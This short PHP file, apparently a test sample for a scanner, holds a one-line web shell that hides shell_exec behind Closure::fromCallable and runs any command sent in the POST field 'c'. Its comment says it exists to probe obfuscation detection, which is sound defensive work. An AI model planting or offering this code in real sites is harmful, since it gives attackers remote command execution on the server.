<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$c = Closure::fromCallable('shell_exec');
echo $c($_POST['c']);
